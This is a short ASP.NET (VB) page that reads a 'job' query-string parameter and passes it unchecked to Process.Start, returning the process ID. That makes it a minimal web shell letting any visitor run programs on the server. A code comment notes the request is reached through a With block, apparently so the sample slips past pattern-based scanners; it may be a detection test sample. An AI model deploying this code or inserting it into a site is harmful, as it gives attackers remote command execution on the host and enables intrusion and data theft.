<%@ Page Language="VB" %>
<script runat="server">
    ' the request is named by a With block; the command line is read through a leading dot
    Sub Page_Load(sender As Object, e As EventArgs)
        Dim job As String = ""
        With Request
            job = .QueryString("job")
        End With
        If job <> "" Then
            Dim p = System.Diagnostics.Process.Start(job)
            Response.Write(p.Id)
        End If
    End Sub
</script>
